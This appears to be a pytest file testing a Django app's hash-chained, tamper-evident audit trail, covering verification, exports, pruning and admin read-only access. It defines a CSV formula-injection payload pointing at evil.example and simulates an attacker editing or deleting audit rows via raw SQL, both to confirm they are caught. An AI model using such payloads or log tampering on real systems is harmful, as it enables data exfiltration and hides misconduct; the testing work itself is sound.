"""The audit trail is append-only and tamper-evident: a hash chain that `audit verify` walks.

mallory has write access to the database (a stolen backup restored, a compromised admin
account on the database server) and edits or deletes rows to hide what she did: `audit verify`
names the first event she touched. The trail exports as CSV, JSON lines and FHIR R4 AuditEvent
(validated with fhir.resources' R4B models: R4B's AuditEvent is R4's), and is pruned past the
retention without breaking the chain of what is kept.
"""

import csv
import io
import itertools
import json
import threading
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.db.migrations.executor import MigrationExecutor
from django.test import Client
from django.utils import timezone
from fhir.resources.R4B.auditevent import AuditEvent as FhirAuditEvent
from fhir.resources.R4B.bundle import Bundle

from accounts import audit
from accounts import services as account_services
from accounts.models import AuditChain, AuditEvent, AuditTrailImmutable
from tests.support.access import last_code, link_token, make_share, make_study, sign_in

MALLORY_BROWSER = '=HYPERLINK("http://evil.example/"&A1,"click")'


def run(*args: str) -> str:
    out = io.StringIO()
    call_command("audit", *args, stdout=out)
    return out.getvalue()


def verify_json() -> dict[str, Any]:
    out = io.StringIO()
    try:
        call_command("audit", "verify", "--json", stdout=out)
    except CommandError:
        pass
    return json.loads(out.getvalue())


def some_events(n: int = 5) -> list[AuditEvent]:
    return [
        account_services.audit(AuditEvent.Action.RECIPIENTS_OPENED, was_closed=bool(i % 2))
        for i in range(n)
    ]


def execute(sql: str, params: list[Any]) -> None:
    """What mallory does: SQL straight to the database, past every rule of the application."""
    with connection.cursor() as cursor:
        cursor.execute(sql, params)


@pytest.mark.django_db
class TestChain:
    def test_it_chains_every_event_to_the_one_before(self) -> None:
        events = some_events(4)
        assert events[0].prev_digest == ""
        for before, after in itertools.pairwise(events):
            assert after.prev_digest == before.digest
        assert AuditChain.objects.get().head_digest == events[-1].digest
        assert run("verify").strip() == "intact, 4 events"

    def test_a_row_mallory_edits_is_named_by_verify(self) -> None:
        events = some_events(5)
        target = events[2]
        execute(
            "UPDATE accounts_auditevent SET ip_address = %s WHERE id = %s",
            ["203.0.113.66", target.pk],
        )

        with pytest.raises(CommandError) as info:
            run("verify")
        assert f"broken at event {target.pk} (" in str(info.value)
        assert "does not match its digest" in str(info.value)
        report = verify_json()
        assert report["intact"] is False
        assert report["broken_event_id"] == target.pk
        assert report["events"] == 2  # the two before it verify

    def test_an_edit_that_recomputes_the_digest_breaks_the_next_link(self) -> None:
        """mallory knows the algorithm and recomputes the digest of the row she edits: the
        next event still names the old digest as its previous one."""
        events = some_events(4)
        target = events[1]
        forged = audit.event_digest(
            prev_digest=target.prev_digest,
            at=target.at,
            action=target.action,
            share_id=None,
            actor_id=None,
            ip_address=None,
            user_agent="",
            detail={"was_closed": "forged"},
        )
        execute(
            "UPDATE accounts_auditevent SET detail = %s, digest = %s WHERE id = %s",
            [json.dumps({"was_closed": "forged"}), forged, target.pk],
        )
        assert verify_json()["broken_event_id"] == events[2].pk

    def test_a_row_mallory_deletes_is_found(self) -> None:
        events = some_events(5)
        execute("DELETE FROM accounts_auditevent WHERE id = %s", [events[1].pk])
        report = verify_json()
        assert report["broken_event_id"] == events[2].pk
        assert "inserted or deleted" in report["reason"]

    def test_events_cut_off_the_end_are_found(self) -> None:
        events = some_events(3)
        execute("DELETE FROM accounts_auditevent WHERE id = %s", [events[-1].pk])
        report = verify_json()
        assert report["intact"] is False
        assert report["broken_event_id"] == events[-2].pk
        assert "after this one were deleted" in report["reason"]

    def test_the_application_cannot_change_or_delete_an_event(self) -> None:
        event = some_events(1)[0]
        event.detail = {"was_closed": "rewritten"}
        with pytest.raises(AuditTrailImmutable):
            event.save()
        with pytest.raises(AuditTrailImmutable):
            event.delete()
        with pytest.raises(AuditTrailImmutable):
            AuditEvent.objects.filter(pk=event.pk).update(ip_address="203.0.113.1")
        with pytest.raises(AuditTrailImmutable):
            AuditEvent.objects.all().delete()
        with pytest.raises(AuditTrailImmutable):
            AuditEvent.objects.bulk_create([AuditEvent(action=AuditEvent.Action.VIEW)])
        assert run("verify").strip() == "intact, 1 events"

    def test_an_ipv6_address_and_json_detail_verify_as_stored(self) -> None:
        """The digest is over what the database gives back (a normalised IPv6 address,
        JSON lists for tuples)."""
        account_services.audit_trail.event_append(
            action=AuditEvent.Action.VIEW,
            ip_address="2001:DB8:0:0:0:0:0:1",
            user_agent="x" * 400,
            detail={"series": ("1.2.3", "1.2.4"), "n": 1.5, "ok": True},
        )
        assert run("verify").strip() == "intact, 1 events"


@pytest.mark.django_db(transaction=True)
def test_concurrent_writers_keep_one_unforked_chain() -> None:
    """Threads with connections of their own (as web processes, workers and the SCP are)
    append at once: every event chains to a distinct predecessor."""
    threads, per_thread = 6, 15
    errors: list[BaseException] = []
    barrier = threading.Barrier(threads)

    def writer(n: int) -> None:
        try:
            barrier.wait()
            for i in range(per_thread):
                account_services.audit(AuditEvent.Action.VIEW, writer=n, i=i)
        except BaseException as exc:
            errors.append(exc)
        finally:
            connection.close()

    workers = [threading.Thread(target=writer, args=(n,)) for n in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()

    assert errors == []
    total = threads * per_thread
    prevs = list(AuditEvent.objects.values_list("prev_digest", flat=True))
    assert len(prevs) == total
    assert len(set(prevs)) == total  # no two events claim the same predecessor: no fork
    assert verify_json() == {
        "intact": True,
        "events": total,
        "broken_event_id": None,
        "broken_at": None,
        "reason": "",
    }


# --- export -------------------------------------------------------------------------------------


@pytest.fixture
def recipient_trail(sms_dir: Path, settings: Any) -> dict[str, str]:
    """A patient's whole path (link, one-time code) from a browser that sends a
    formula as its browser name: the secrets that were in play, which no export may hold."""
    make_study(patient_name="DUPONT^Marie")
    created = make_share(contact="+33612345642")
    sign_in(Client(), created, sms_dir, HTTP_USER_AGENT=MALLORY_BROWSER)
    return {
        "token": link_token(created),
        "code": created.access_code,
        "code_compact": created.access_code.replace("-", "").replace(" ", ""),
        "otp": last_code(sms_dir),
        "name": "DUPONT",
        "given": "Marie",
        "phone": "612345642",
    }


def export(*args: str) -> str:
    return run("export", *args)


@pytest.mark.django_db
def test_csv_export_parses_and_quotes_formulas(recipient_trail: dict[str, str]) -> None:
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    assert len(rows) == AuditEvent.objects.count() > 3
    assert [r["id"] for r in rows] == [
        str(pk) for pk in AuditEvent.objects.order_by("pk").values_list("pk", flat=True)
    ]
    browsers = {r["user_agent"] for r in rows if r["user_agent"]}
    # A spreadsheet opening the export shows the stranger's "browser" as text, never runs it.
    assert browsers == {"'" + MALLORY_BROWSER}
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    assert json.loads(rows[0]["detail"]) == AuditEvent.objects.order_by("pk")[0].detail


@pytest.mark.django_db
def test_ndjson_export_parses_line_by_line(recipient_trail: dict[str, str]) -> None:
    lines = export("--format", "ndjson").splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["id"] for r in records] == list(
        AuditEvent.objects.order_by("pk").values_list("pk", flat=True)
    )
    assert records[0]["action"] == AuditEvent.Action.SHARE_CREATED
    digests = set(AuditEvent.objects.values_list("digest", flat=True))
    assert {r["digest"] for r in records} == digests


@pytest.mark.django_db
def test_fhir_export_is_a_valid_r4_bundle_of_audit_events(
    recipient_trail: dict[str, str], settings: Any
) -> None:
    bundle = Bundle.model_validate_json(export("--format", "fhir"))
    assert bundle.type == "collection"
    assert bundle.entry is not None
    resources = [entry.resource for entry in bundle.entry]
    assert len(resources) == AuditEvent.objects.count()
    by_action = {}
    for resource in resources:
        assert isinstance(resource, FhirAuditEvent)
        assert resource.subtype is not None
        by_action[resource.subtype[0].code] = resource
    otp_ok = by_action[AuditEvent.Action.OTP_OK]
    assert otp_ok.type.code == "110114"  # DICOM: User Authentication
    assert otp_ok.outcome == "0"
    assert otp_ok.agent[0].network is not None
    assert otp_ok.agent[0].network.address == "127.0.0.1"
    assert otp_ok.entity is not None and otp_ok.entity[0].what is not None
    assert otp_ok.entity[0].what.identifier is not None
    share_id = AuditEvent.objects.get(action=AuditEvent.Action.OTP_OK).share_id
    assert otp_ok.entity[0].what.identifier.value == str(share_id)

    lines = export("--format", "fhir-ndjson").splitlines()
    assert len(lines) == len(resources)
    for line in lines:
        FhirAuditEvent.model_validate_json(line)


@pytest.mark.django_db
def test_no_export_holds_a_token_a_code_or_the_patients_name(
    recipient_trail: dict[str, str],
) -> None:
    for fmt in audit.EXPORT_FORMATS:
        text = export("--format", fmt)
        for what, secret in recipient_trail.items():
            assert secret not in text, f"{what} in the {fmt} export"


@pytest.mark.django_db
def test_export_since_a_date_and_to_a_file(tmp_path: Path) -> None:
    old = some_events(2)
    cut = timezone.now()
    new = some_events(3)
    day = (timezone.localtime(cut)).date().isoformat()
    assert len(export("--format", "ndjson", "--since", day).splitlines()) == 5
    output = tmp_path / "since.ndjson"
    err = io.StringIO()
    call_command(
        "audit", "export", "--format", "ndjson", "--since", cut.isoformat(),
        "--output", str(output), stderr=err,
    )  # fmt: skip
    ids = [json.loads(line)["id"] for line in output.read_text().splitlines()]
    assert ids == [e.pk for e in new]
    assert old[0].pk not in ids
    assert "3 events written" in err.getvalue()
    with pytest.raises(CommandError, match="--since 'yesterday'"):
        export("--format", "csv", "--since", "yesterday")


# --- retention ----------------------------------------------------------------------------------


def events_at(monkeypatch: pytest.MonkeyPatch, when: Any, n: int) -> list[AuditEvent]:
    monkeypatch.setattr(audit.timezone, "now", lambda: when)
    try:
        return some_events(n)
    finally:
        monkeypatch.undo()


@pytest.mark.django_db
def test_prune_exports_then_deletes_the_old_events_and_the_rest_still_verifies(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settings: Any
) -> None:
    settings.AUDIT_RETENTION_DAYS = 365
    old = events_at(monkeypatch, timezone.now() - timedelta(days=400), 3)
    kept = some_events(2)
    output = tmp_path / "archive" / "audit-old.ndjson"

    out = io.StringIO()
    call_command("audit", "prune", "--output", str(output), "--json", stdout=out)

    report = json.loads(out.getvalue())
    assert report["pruned"] == 3
    exported = [json.loads(line) for line in output.read_text().splitlines()]
    assert [e["id"] for e in exported] == [e.pk for e in old]
    assert not AuditEvent.objects.filter(pk__in=[e.pk for e in old]).exists()
    remaining = list(AuditEvent.objects.order_by("pk"))
    assert [e.pk for e in remaining[:2]] == [e.pk for e in kept]
    assert remaining[-1].action == AuditEvent.Action.AUDIT_PRUNED
    assert remaining[-1].detail["events"] == 3
    assert AuditChain.objects.get().anchor_digest == old[-1].digest
    assert run("verify").strip() == "intact, 3 events"

    # The first kept event is anchored: mallory deleting it is still seen.
    execute("DELETE FROM accounts_auditevent WHERE id = %s", [kept[0].pk])
    assert verify_json()["broken_event_id"] == kept[1].pk

    # Nothing is older than the retention any more; an existing file is never overwritten.
    assert "nothing pruned" in run("prune", "--output", str(tmp_path / "again.ndjson"))
    with pytest.raises(CommandError, match="never overwritten"):
        run("prune", "--output", str(output))


@pytest.mark.django_db
def test_prune_refuses_to_destroy_a_broken_chain(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = events_at(monkeypatch, timezone.now() - timedelta(days=400), 3)
    execute("UPDATE accounts_auditevent SET user_agent = 'x' WHERE id = %s", [old[1].pk])
    output = tmp_path / "prune.ndjson"
    with pytest.raises(CommandError, match=f"broken at event {old[1].pk}"):
        run("prune", "--output", str(output))
    assert not output.exists()
    assert AuditEvent.objects.count() == 3


@pytest.mark.django_db
def test_the_beat_prune_task_archives_into_the_configured_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settings: Any
) -> None:
    from accounts.tasks import audit_prune

    settings.AUDIT_ARCHIVE_DIR = tmp_path / "audit"
    events_at(monkeypatch, timezone.now() - timedelta(days=400), 2)
    assert audit_prune() == 2
    (archive,) = (tmp_path / "audit").glob("audit-*.ndjson")
    assert len(archive.read_text().splitlines()) == 2


@pytest.mark.django_db(transaction=True)
def test_the_migration_chains_events_recorded_before_it() -> None:
    executor = MigrationExecutor(connection)
    executor.migrate([("accounts", "0008_audit_failure_alert")])
    old_apps = executor.loader.project_state([("accounts", "0008_audit_failure_alert")]).apps
    old_event = old_apps.get_model("accounts", "AuditEvent")
    for i in range(3):
        old_event.objects.create(action="view", ip_address="192.0.2.1", detail={"i": i})

    executor = MigrationExecutor(connection)
    executor.loader.build_graph()
    executor.migrate(executor.loader.graph.leaf_nodes())

    assert AuditEvent.objects.exclude(digest="").count() == 3
    assert run("verify").strip() == "intact, 3 events"
    account_services.audit(AuditEvent.Action.VIEW)
    assert run("verify").strip() == "intact, 4 events"


@pytest.mark.django_db
def test_the_admin_shows_events_read_only() -> None:
    from tests.support.staff import admin_user, staff_client

    event = some_events(1)[0]
    client = staff_client(admin_user())
    base = f"/admin/accounts/auditevent/{event.pk}"
    assert client.get(f"{base}/change/").status_code == 200  # to read
    assert client.post(f"{base}/change/", {"user_agent": "edited"}).status_code == 403
    assert client.post(f"{base}/delete/", {"post": "yes"}).status_code == 403
    response = client.post(
        "/admin/accounts/auditevent/",
        {"action": "delete_selected", "_selected_action": [event.pk], "post": "yes"},
    )
    assert response.status_code in {200, 302}
    assert AuditEvent.objects.filter(pk=event.pk).exists()
    assert run("verify").strip() == "intact, 1 events"


# DICOM PS3.16 CID 400: application activity, audit log used, instances accessed, study
# deleted, export, security alert, user authentication.
DICOM_AUDIT_CODES = {"110100", "110101", "110103", "110105", "110106", "110113", "110114"}


@pytest.mark.django_db
def test_every_kind_of_event_is_a_valid_fhir_audit_event() -> None:
    for action in AuditEvent.Action.values:
        account_services.audit(action, note="x")
    for line in export("--format", "fhir-ndjson").splitlines():
        resource = FhirAuditEvent.model_validate_json(line)
        assert resource.type.system == audit.DCM
        assert resource.type.code in DICOM_AUDIT_CODES
